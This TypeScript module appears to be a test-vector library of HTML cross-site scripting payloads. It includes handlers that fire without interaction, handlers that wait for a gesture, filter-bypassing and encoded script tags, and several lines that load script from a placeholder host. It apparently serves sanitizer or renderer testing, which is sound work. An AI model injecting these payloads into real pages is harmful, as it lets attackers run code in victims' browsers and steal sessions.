import { vectors, type Vector } from './vector.ts';

/** Handlers that fire without interaction, with what makes them fire. */
const FIRING = [
  '<img src=x onerror={run}>', '<img src=data:, onerror="{run}">', '<IMG SRC=x OnErRoR={run}>', '<img/src=x/onerror={run}>', '<img\nsrc=x\nonerror\n=\n{run}>', '<img src="x"onerror={run}>',
  "<img src='x'onerror='{run}'>", '<img src=x onerror=&#97;lert&#40;{run}&#41;>', '<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload={run}>', '<image src=x onerror={run}>',
  '<img srcset=x onerror={run}>', '<picture><source srcset=x><img src=x onerror={run}></picture>', '<input type=image src=x onerror={run}>', '<input autofocus onfocus={run}>',
  '<textarea autofocus onfocus={run}></textarea>', '<select autofocus onfocus={run}><option>x</select>', '<button autofocus onfocus={run}>x</button>', '<div contenteditable autofocus onfocus={run}>x</div>',
  '<p tabindex=0 autofocus onfocus={run}>x</p>', '<a href=# autofocus onfocus={run}>x</a>', '<xss autofocus tabindex=1 onfocus={run}>', '<iframe onload={run}></iframe>', '<iframe srcdoc=x onload={run}></iframe>',
  '<object data=data:text/plain,x onload={run}></object>', '<object data=x onerror={run}></object>', '<embed src=data:text/plain,x onload={run}>', '<body onload={run}>', '<body onpageshow={run}>', '<frameset onload={run}>',
  '<style onload={run}>a{}</style>', '<link rel=stylesheet href=data:text/css, onload={run}>', '<link rel=stylesheet href=x onerror={run}>', '<script onerror={run} src=x></script>',
  '<video src=x onerror={run}></video>', '<video><source onerror={run} src=x></video>', '<audio src=x onerror={run}></audio>', '<video onloadstart={run} src=data:video/mp4,></video>', '<video autoplay onplay={run} src=x></video>',
  '<track onerror={run} src=x default kind=captions>', '<details open ontoggle={run}><summary>s</summary></details>', '<details ontoggle={run} open>', '<marquee onstart={run}>x</marquee>', '<marquee loop=1 width=0 onfinish={run}>x</marquee>',
  '<div style="animation:x 1s" onanimationstart={run}>x</div>', '<style>@keyframes x{}</style><b style="animation-name:x" onanimationend={run}>x</b>', '<div style="transition:1s" ontransitionrun={run}>x</div>',
  '<p onbeforematch={run} hidden=until-found>x</p>', '<div oncontentvisibilityautostatechange={run} style=content-visibility:auto>x</div>', '<div onscroll={run} style="overflow:auto;height:1px"><br autofocus tabindex=1><p style=height:99px>x</div>',
  '<div onscrollend={run}>x</div>', '<form onformdata={run}><button>x</button></form>', '<dialog open onclose={run}>x</dialog>', '<div popover onbeforetoggle={run} id=p1>x</div>', '<button popovertarget=p1 onfocus={run} autofocus>x</button>',
  '<meta onload={run}>', '<base onload={run} href=x>', '<input oninvalid={run} required autofocus>', '<isindex type=image src=1 onerror={run}>', '<keygen autofocus onfocus={run}>', '<bgsound src=x onerror={run}>', '<menuitem onclick={run}>x',
  '<table background=x onload={run}><tr><td>x</table>', '<applet code=x onerror={run}></applet>', '<math onfocus={run} tabindex=0 autofocus>x</math>', '<fencedframe onload={run}></fencedframe>', '<portal onload={run} src=x></portal>',
  '<div onpointerrawupdate={run}>x</div>', '<canvas onwebglcontextcreationerror={run}></canvas>', '<div onsecuritypolicyviolation={run} style="color:red">x</div>', '<slot onslotchange={run}></slot>', '<html onload={run}><body>',
];

/** Handlers that need interaction; the run hovers, presses and focuses what it can. */
const WAITING = [
  '<p onclick={run}>press me</p>', '<p onmouseover={run}>point at me</p>', '<p onpointerenter={run}>point at me</p>', '<b onmousemove={run}>x</b>', '<i oncopy={run}>x</i>', '<b onselectstart={run}>x</b>', '<b draggable=true ondragstart={run}>x</b>',
  '<b onwheel={run}>x</b>', '<b oncontextmenu={run}>x</b>', '<input onkeydown={run} value=x>', '<button onclick={run}>Approve</button>', '<label onclick={run}>x<input type=checkbox></label>', '<button commandfor=c command=show-modal>x</button><dialog id=c onbeforetoggle={run}>x</dialog>',
  '<input accesskey=x onclick={run}>', '<summary onclick={run}>x</summary>', '<b ontouchstart={run}>x</b>', '<b onauxclick={run}>x</b>', '<form id=f onsubmit={run}></form><button form=f>x</button>',
];

const SCRIPTS = [
  '<script>{run}</script>', '<SCRIPT>{run}</SCRIPT>', '<script/x>{run}</script>', '<script\n>{run}</script >', '<script src=//{host}/a.js></script>', '<script type=module>{run}</script>', '<script type=module src=https://{host}/m.js></script>',
  '<script type="text/javascript">{run}//<!--</script>', '<scr<script>ipt>{run}</scr</script>ipt>', '<<script>{run}//<</script>', '<script>{run}', '<script src=data:text/javascript,{run}></script>', '<script src="data:,{run}"></script>',
  '<script async src=https://{host}/async.js></script>', '<script nomodule>{run}</script>', '<script type=importmap>{"imports":{"x":"https://{host}/x.js"}}</script>', '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://{host}/p"]}]}</script>',
  '<script type=speculationrules>{"prerender":[{"source":"list","urls":["https://{host}/r"]}]}</script>', '<!--[if gte IE 4]><script>{run}</script><![endif]-->', '<comment><img src="</comment><img src=x onerror={run}>">', '<?xml-stylesheet href="javascript:{run}"?><script>{run}</script>',
  '</script><script>{run}</script>', '\u003cscript\u003e{run}\u003c/script\u003e', '&lt;script&gt;{run}&lt;/script&gt;', '%3Cscript%3E{run}%3C/script%3E', '<script>{run}</script\u2028>', '<script language=vbscript>msgbox 1</script><script>{run}</script>',
];

export const HTML_VECTORS: readonly Vector[] = [
  ...vectors('handler', 'a handler that fires by itself', FIRING),
  ...vectors('gesture', 'a handler that waits for a gesture', WAITING),
  ...vectors('script', 'a script element', SCRIPTS),
];
